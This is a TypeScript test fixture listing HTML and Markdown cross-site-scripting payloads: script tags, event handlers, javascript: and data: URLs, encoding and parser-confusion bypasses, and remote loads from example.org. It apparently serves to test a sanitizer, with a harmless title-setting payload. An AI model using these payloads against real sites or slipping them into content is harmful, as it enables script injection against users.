// What others have tried to make a page run: each sets the title of the window, or asks for an address, if it gets through.
const run = 'document.title=`ran`';

/** As HTML that an output holds, or raw in Markdown. */
export const htmlAttacks: readonly string[] = [
  `<script>${run}</script>`, `<SCRIPT\n>${run}</SCRIPT\n>`, `<scr<script></script>ipt>${run}</script>`, `<script src="data:text/javascript,${run}"></script>`,
  `<script src="https://example.org/x.js"></script>`, `<img src=x onerror="${run}">`, `<img src=x onerror=${run}//`, `<img/src/onerror=${run}>`, `<img src="x" ONERROR='${run}'>`,
  `<img src=x:x onerror\n=\n"${run}">`, `<svg onload="${run}"></svg>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><g/onload="${run}"></g></svg>`, `<svg><image href="x" onerror="${run}"/></svg>`, `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">click</text></a></svg>`, `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="20">click</text></a></svg>`,
  `<svg><a><set attributeName="href" to="javascript:${run}"/><text y="20">click</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`, `<svg><use xlink:href="https://example.org/x.svg#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe><img src=x onerror="${run}"></foreignObject></svg>`,
  `<svg><style>@import "https://example.org/x.css";</style></svg>`, `<svg><rect fill="url(https://example.org/x.svg#x)"/></svg>`, `<svg><rect fill="u\\72l(https://example.org/y.svg#x)"/></svg>`,
  `<svg><filter id="f"><feImage href="https://example.org/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`, `<svg><image href="https://example.org/x.png" width="9" height="9"/></svg>`,
  `<a href="javascript:${run}">click</a>`, `<a href="JaVaScRiPt:${run}">click</a>`, `<a href=" &#14; javascript:${run}">click</a>`, `<a href="java&#x09;script:${run}">click</a>`,
  `<a href="java\nscript:${run}">click</a>`, `<a href="&#106;avascript&colon;${run}">click</a>`, `<a href="&#0000106avascript:${run}">click</a>`, `<a href="vbscript:${run}">click</a>`,
  `<a href="data:text/html,<script>opener.${run}</script>">click</a>`, `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" target="_blank">click</a>`, `<a href="x" onclick="${run}">click</a>`,
  `<area href="javascript:${run}">`, `<form action="javascript:${run}"><button>click</button></form>`, `<button formaction="javascript:${run}" form=f>click</button>`, `<input type="image" src=x onerror="${run}">`,
  `<input autofocus onfocus="${run}">`, `<select autofocus onfocus="${run}"></select>`, `<textarea autofocus onfocus="${run}"></textarea>`, `<div tabindex=1 autofocus onfocus="${run}">x</div>`,
  `<details open ontoggle="${run}">x</details>`, `<marquee onstart="${run}">x</marquee>`, `<video onerror="${run}"><source src=x></video>`, `<video poster="https://example.org/p.png" src="https://example.org/v.mp4"></video>`,
  `<audio src=x onerror="${run}"></audio>`, `<body onload="${run}">`, `<body background="https://example.org/b.png">`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`, `<iframe src="https://example.org/"></iframe>`, `<object data="javascript:${run}"></object>`, `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  `<embed src="javascript:${run}">`, `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${run}'/>">`, `<link rel="stylesheet" href="https://example.org/x.css">`,
  `<link rel="import" href="https://example.org/x.html">`, `<meta http-equiv="refresh" content="0;url=https://example.org/">`, `<meta http-equiv="refresh" content="0;url=javascript:${run}">`, `<base href="https://example.org/">`,
  `<style>body{background:url(https://example.org/s.png)}</style>`, `<style>@import "https://example.org/s.css"</style>`, `<p style="background:url(https://example.org/s.png)">x</p>`,
  `<p style="background:u\\72l(https://example.org/t.png)">x</p>`, `<p style="background-image:image-set('https://example.org/u.png' 1x)">x</p>`, `<p style="width:expression(${run})">x</p>`,
  `<p style="behavior:url(x.htc);-moz-binding:url(x.xml#y)">x</p>`, `<ul style="list-style-image:url(https://example.org/l.png)"><li>x</ul>`, `<p style="background:linear-gradient(red,url(https://example.org/v.png))">x</p>`,
  `<noscript><p title="</noscript><img src=x onerror='${run}'>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`, `<svg><foreignObject><p></p></foreignObject><title><b title="</title><img src=x onerror='${run}'>"></b></title></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<xmp><p title="</xmp><img src=x onerror='${run}'>"></xmp>`, `<template><img src=x onerror="${run}"></template>`,
  `<textarea><img title="</textarea><img src=x onerror='${run}'>">`, `<!--><img src=x onerror="${run}">-->`, `<![CDATA[><img src=x onerror="${run}">]]>`, `<?xml-stylesheet href="javascript:${run}"?>`,
  `<math href="javascript:${run}">click</math>`, `<math><maction actiontype="statusline#https://example.org" xlink:href="javascript:${run}">click</maction></math>`, `<isindex action="javascript:${run}" type=image>`,
  `<table background="https://example.org/t.png"><tr><td background="https://example.org/u.png">x</table>`, `<img srcset="https://example.org/s.png 1x" src="https://example.org/i.png">`, `<img name="querySelector"><form name="getElementById"><input name="attributes"></form>`,
  `<p style="color: $red;background:url(https://example.org/m.png)$">x</p>`, `<svg><rect fill="$red$ url(https://example.org/n.svg#a)"/></svg>`, `<p title="$x$" onclick="${run}">click $"><img src=x onerror=${run}>$</p>`,
  `<p>$<img src=x onerror="${run}">$</p>`, `$\\href{javascript:${run}}{x}$`, `$\\text{<img src=x onerror=${run}>}$`, `$\\nope{<img src=x onerror=${run}>}$`,
];

/** As Markdown. */
export const markdownAttacks: readonly string[] = [
  `[click](javascript:${run})`, `[click](JAVASCRIPT:${run})`, `[click](java\\script:${run})`, `[click](&#x6A;avascript:${run})`, `[click](<java script:${run}>)`, `[click](data:text/html,<script>${run}</script>)`,
  `<javascript:${run}>`, `[click][a]\n\n[a]: javascript:${run}`, `![x](javascript:${run})`, `![x](x"onerror="${run})`, `[click](x"onclick="${run})`, `![x](https://example.org/i.png)`,
  `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\``, `# <img src=x onerror="${run}"> heading`, `# "onmouseover="${run}`, `| <img src=x onerror="${run}"> | b |\n| --- | --- |\n| <svg onload="${run}"> | d |`,
  `[x](https://example.org/ "\\"onmouseover=\\"${run}")`,
];
